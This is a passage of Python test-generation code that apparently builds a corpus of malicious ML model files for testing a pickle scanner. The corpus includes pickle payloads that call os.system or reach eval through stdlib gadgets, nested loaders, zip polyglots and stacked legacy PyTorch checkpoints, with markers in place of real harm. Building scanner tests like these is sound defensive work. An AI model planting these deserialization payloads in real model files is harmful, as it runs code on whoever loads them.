        note="bytes argument as _codecs.encode(text, 'latin1'), as protocol 0 writes them")
    name = "proto0_pathlib_touch.pkl"
    add(name, b"\x80\x04" + _c0(_g0("pathlib", "Path.touch"),
                                 _c0(_g0("pathlib", "PosixPath"), str(m(name)))) + b".",
        loader="pickle.load", category=cat, subject="touch")

    # 15. More public bypass shapes: eval helpers, nested loaders, getattr-like indirection,
    # file writers in "data" modules, code imported from an archive appended to the pickle.
    cat = "stdlib internal: eval/exec of a string"
    name = "idlelib_debugobj_settext_eval.pkl"
    add(name, _p4(_c(_g("idlelib.debugobj", "ObjectTreeItem.SetText"),
                     _c(_g("idlelib.debugobj", "ObjectTreeItem"), "x", 0), _code(m(name)))),
        loader="pickle.load", category=cat, subject="SetText",
        note="the debugger's tree item evals the text it is given")
    name = "stdlib_bdb_runeval_unbound.pkl"
    add(name, _p4(_c(_g("bdb", "Bdb.runeval"), _c(_g("bdb", "Bdb")), _code(m(name)))),
        loader="pickle.load", category=cat, subject="runeval")
    name = "numpy_f2py_crackfortran_myeval.pkl"
    add(name, _p4(_c(_g("numpy.f2py.crackfortran", "myeval"), _code(m(name)))),
        loader="pickle.load", category="expression parser / template engine", subject="myeval",
        note="numpy's Fortran expression evaluator is eval()")
    name = "sklearn_testing_run_python_script.pkl"
    add(name, _p4(_c(_g("sklearn.utils._testing", "assert_run_python_script_without_output"),
                     _code(m(name)))),
        loader="pickle.load", category="ML library: import by dotted name / runs source",
        subject="assert_run_python_script", note="runs source in a child interpreter")
    cat = "nested pickle loader"
    inner = _os_system(m("lib2to3_grammar_loads_nested.pkl"), protocol=0)
    name = "lib2to3_grammar_loads_nested.pkl"
    add(name, _p4(_c(_g("lib2to3.pgen2.grammar", "Grammar.loads"),
                     _c(_g("lib2to3.pgen2.grammar", "Grammar")), inner)),
        loader="pickle.load", category=cat, subject="system|loads",
        note="the grammar cache loader is pickle.loads")
    name = "pickle_private_loads_nested.pkl"
    add(name, _p4(_c(_g("pickle", "_loads"), _os_system(m(name), protocol=0))),
        loader="pickle.load", category=cat, subject="system|_loads")
    name = "pickle_load_bytesio_nested.pkl"
    add(name, _p4(_c(_g("pickle", "load"), _c(_g("_io", "BytesIO"),
                                             _os_system(m(name), protocol=0)))),
        loader="pickle.load", category=cat, subject="system|load")
    cat = "getattr-like indirection"
    name = "stdlib_xmlrpc_resolve_dotted_attribute.pkl"
    add(name, _p4(_c(_c(_g("xmlrpc.server", "resolve_dotted_attribute"),
                        _g("pathlib", "PosixPath"), "touch"),
                     _c(_g("pathlib", "PosixPath"), str(m(name))))),
        loader="pickle.load", category=cat, subject="resolve_dotted_attribute",
        note="a safe class and a plain string become a file-writing method")
    name = "stdlib_inspect_getattr_static.pkl"
    add(name, _p4(_c(_c(_g("inspect", "getattr_static"), _g("pathlib", "PosixPath"), "touch"),
                     _c(_g("pathlib", "PosixPath"), str(m(name))))),
        loader="pickle.load", category=cat, subject="getattr_static")
    cat = "file writer / URL fetcher"
    name = "distutils_write_file.pkl"
    add(name, _p4(_c(_g("distutils.file_util", "write_file"), str(m(name)), [])),
        loader="pickle.load", category=cat, subject="write_file")
    name = "stdlib_tarfile_open_writer.pkl"
    add(name, _p4(_c(_g("tarfile", "open"), str(m(name)), "w")), loader="pickle.load",
        category=cat, subject="tarfile", note="tarfile: the legacy PyTorch container module")
    name = "stdlib_zipfile_writer.pkl"
    add(name, _p4(_c(_g("zipfile", "ZipFile"), str(m(name)), "w")), loader="pickle.load",
        category=cat, subject="ZipFile")
    name = "stdlib_io_open_writer.pkl"
    add(name, _p4(_c(_g("io", "open"), str(m(name)), "w")), loader="pickle.load",
        category=cat, subject="open")
    name = "dotted_numpy_ndarray_tofile.pkl"
    add(name, _p4(_c(_g("numpy", "ndarray.tofile"), _c(_g("numpy", "zeros"), 1), str(m(name)))),
        loader="pickle.load", category="dotted path under an allowed top-level module",
        subject="tofile", note="the array class is safe, its tofile method writes a file")
    cat = "code imported from an archive"
    name = "zipimport_polyglot_load_module.pkl"
    add(name, lambda p, n=name: p.write_bytes(_p4(_c(
        _g("zipimport", "zipimporter.load_module"), _c(_g("zipimport", "zipimporter"), str(p)),
        "weights_helper")) + _py_zip({"weights_helper.py": _code(m(n)) + "\n"})),
        loader="pickle.load", category=cat, subject="zipimport",
        note="a pickle with a zip appended; the pickle imports a module from its own zip part")
    name = "runpy_run_path_polyglot.pkl"
    add(name, lambda p, n=name: p.write_bytes(_p4(_c(_g("runpy", "run_path"), str(p)))
                                              + _py_zip({"__main__.py": _code(m(n)) + "\n"})),
        loader="pickle.load", category=cat, subject="run_path",
        note="runpy runs the __main__.py of the zip appended to the pickle itself")

    # 16. Malformed files: the loader fails (or two loaders disagree without a payload); a
    # scanner must refuse them, never call them clean.
    cat = "malformed"
    name = "frame_truncated_pure_python_fires.pkl"
    add(name, b"\x80\x04\x95" + struct.pack("<Q", 4096) + _c(_g("os", "system"), _touch(m(name)))
        + b".", loader="joblib.load", inert_under="pickle.load",
        category="FRAME divergence: file vs bytes unpickler", expect="malformed",
        note="FRAME declares more bytes than the file has: the C unpickler refuses, the "
             "pure-Python one (joblib's NumpyUnpickler) runs what is there")
    name = "malformed_npy_header_code.npy"
    code_header = (f"{{'descr': __import__('os').system({_touch(m(name))!r}), "
                   "'fortran_order': False, 'shape': (1,), }")
    code_header += " " * ((-(10 + len(code_header) + 1)) % 64) + "\n"
    add(name, b"\x93NUMPY\x01\x00" + struct.pack("<H", len(code_header))
        + code_header.encode() + b"\0" * 8,
        loader="", category=cat, expect="malformed",
        note="an .npy header that is code, not a literal (numpy.load refuses it; never eval it)")
    name = "malformed_zip_count_mismatch.pt"
    add(name, lambda p: p.write_bytes(_zip_count_mismatch(_torch_bytes(_state()))),
        loader="", category=cat, expect="malformed", marker=m(name),
        note="end record counts fewer entries than the central directory holds: miniz lists "
             "a prefix, zipfile lists all")
    name = "malformed_zip_shared_local_header.pt"
    add(name, lambda p: p.write_bytes(_zip_shared_local_header(_torch_bytes(_state()))),
        loader="", category=cat, expect="malformed", marker=m(name),
        note="two central entries point at one local header (names disagree)")
    name = "malformed_safetensors_offsets.safetensors"
    add(name, _safetensors_overlap(), loader="", category=cat, expect="malformed", marker=m(name),
        note="tensor data ranges overlap and run past the end")
    name = "malformed_gguf_truncated.gguf"
    add(name, lambda p: _truncated_gguf(p), loader="", category=cat, expect="malformed",
        marker=m(name), note="cut in the middle of its metadata")

    # 14. Payload in a later stacked pickle of a legacy checkpoint, or in a tar member.
    cat = "legacy checkpoint: payload in a later pickle / tar member"
    name = "torch_legacy_payload_last_pickle.pt"
    add(name, lambda p: p.write_bytes(_legacy_replace(4, pickle.dumps(
        _Reduce(os.system, _touch(m(name))), protocol=2))),
        loader="torch.load", category=cat, subject="system",
        note="pickle 5 of 5 (storage keys), read after the main object")
    name = "torch_legacy_payload_protocol_pickle.pt"
    add(name, lambda p: p.write_bytes(_legacy_replace(1, pickle.dumps(
        _Reduce(os.system, _touch(m(name))), protocol=2))),
        loader="torch.load", category=cat, subject="system",
        note="pickle 2 of 5 (the protocol version number)")
    name = "torch_tar_payload_in_pickle.pt"
    add(name, lambda p: p.write_bytes(_torch_tar({"pickle": pickle.dumps(
        _Reduce(os.system, _touch(m(name))), protocol=2)})),
        loader="torch.load", category=cat, subject="system",
        note="pre-0.4 tar layout, payload in the 'pickle' member")
    name = "torch_tar_payload_in_storages.pt"
    add(name, lambda p: p.write_bytes(_torch_tar({"storages": pickle.dumps(
        _Reduce(os.system, _touch(m(name))), protocol=2)})),
        loader="torch.load", category=cat, subject="system",
        note="payload in the 'storages' member, read before the main pickle")
    return samples


# -- writers used above ---------------------------------------------------------------------------


def _load_from_bytes() -> Callable[..., object]:
    import torch.storage

    return torch.storage._load_from_bytes  # type: ignore[attr-defined,no-any-return]


def _state() -> dict[str, object]:
    import torch

    generator = torch.Generator().manual_seed(0)
    return {"layer.weight": torch.randn(8, 4, generator=generator), "layer.bias": torch.zeros(8)}


def _array() -> object:
    import numpy as np

    return np.arange(100.0)


def _torch_bytes(obj: object, *, legacy: bool = False) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(obj, buffer, _use_new_zipfile_serialization=not legacy)
    return buffer.getvalue()


def _replace_zip_member(data: bytes, suffix: str, new: bytes) -> bytes:
    """The same archive (stored members, same order) with one member's bytes replaced."""
    members = [(n, new if n.endswith("/" + suffix) else d) for n, d in _zip_members(data)]
    blob, offsets = _locals(members)
    cd = _cd(members, offsets)
    return blob + cd + _eocd(len(members), len(cd), len(blob))


def _pickle_ends(data: bytes) -> list[int]:
    """Offsets where each stacked pickle of ``data`` ends (after its STOP)."""
    ends = []
    start = 0
    while start < len(data):
        stop = None
        for opcode, _arg, pos in pickletools.genops(io.BytesIO(data[start:])):
            if opcode.name == "STOP":
                stop = pos
        if stop is None:
            break
        start += stop + 1
        ends.append(start)
        if len(ends) == 5:
            break
    return ends


def _legacy_replace(index: int, pickled: bytes) -> bytes:
    """A legacy (non-zip) torch.save of the state dict with stacked pickle ``index`` replaced."""
    data = _torch_bytes(_state(), legacy=True)
    ends = _pickle_ends(data)
    starts = [0, *ends[:-1]]
    return data[: starts[index]] + pickled + data[ends[index]:]


def _torch_tar(overrides: dict[str, bytes]) -> bytes:
    """A minimal pre-0.4 tar-layout checkpoint (no tensors) with members replaced."""
    members = {
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                  "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2),
        "pickle": pickle.dumps({"epoch": 1}, protocol=2),
        "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
    }
    members.update(overrides)
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for member_name in ("sys_info", "pickle", "storages", "tensors"):
            info = tarfile.TarInfo(member_name)
            info.size = len(members[member_name])
            archive.addfile(info, io.BytesIO(members[member_name]))
    return raw.getvalue()


def _npy_header(descr: str, shape: tuple[int, ...]) -> bytes:
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape!r}, }}"
    total = 10 + len(header) + 1
    header += " " * ((-total) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()


def _npy_object(pickled: bytes) -> bytes:
    """An .npy of dtype object whose data is the given pickle, as numpy.load reads it."""
    return _npy_header("|O", (1,)) + pickled


def _npy_bytes() -> bytes:
    import numpy as np

    buffer = io.BytesIO()
    np.save(buffer, np.arange(4))
    return buffer.getvalue()


def _write_npz(path: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for member, data in members.items():
            archive.writestr(member, data)


def _joblib_dump(obj: object, path: Path, compress: tuple[str, int]) -> None:
    import joblib

    joblib.dump(obj, path, compress=compress)


def _hf_template_folder(folder: Path, form: str, template: str) -> None:
    """A tokenizer folder whose chat template is ``template``: the second named template of its
    ``tokenizer_config.json`` after a plain ChatML one (``form="json"``), or its
    ``chat_template.jinja`` (``form="jinja"``)."""
    from scan_corpus import write_hf_tokenizer

    if form == "jinja":
        write_hf_tokenizer(folder, jinja=template)
        return
    chatml = (_CHATML_HEAD + "{% if add_generation_prompt %}"
              "{{ '<|im_start|>assistant\\n' }}{% endif %}")
    write_hf_tokenizer(folder, chat_template=[{"name": "default", "template": chatml},
                                              {"name": "tool_use", "template": template}])


def _gguf(path: Path, template: str) -> None:
    import gguf
    import numpy as np

    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_name("tiny")
    writer.add_chat_template(template)
    writer.add_bos_token_id(1)
    writer.add_eos_token_id(2)
    writer.add_tensor("w", np.zeros((4, 32), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def _py_zip(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for member, text in members.items():
            archive.writestr(member, text)
    return buffer.getvalue()


def _zip_count_mismatch(benign: bytes) -> bytes:
    members = _zip_members(benign)
    blob, offsets = _locals(members)
    cd = _cd(members, offsets)
    return blob + cd + _eocd(len(members) - 2, len(cd), len(blob))


def _zip_shared_local_header(benign: bytes) -> bytes:
    members = _zip_members(benign)
    blob, offsets = _locals(members)
    offsets[-1] = offsets[0]  # the last entry's data is read from the first entry's header
    cd = _cd(members, offsets)
    return blob + cd + _eocd(len(members), len(cd), len(blob))


def _safetensors_overlap() -> bytes:
    import json

    header = json.dumps({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                         "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
                         "c": {"dtype": "F32", "shape": [64], "data_offsets": [24, 280]}}).encode()
    return struct.pack("<Q", len(header)) + header + b"\0" * 24


def _truncated_gguf(path: Path) -> None:
    _gguf(path, "{{ messages }}")
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 8])


def _torch_module_with_act(path: Path, act: Callable[..., object], hint: str) -> None:
    import torch

    module = torch.nn.Identity()
    module.act = act
    module.hint = hint
    torch.save(module, path)
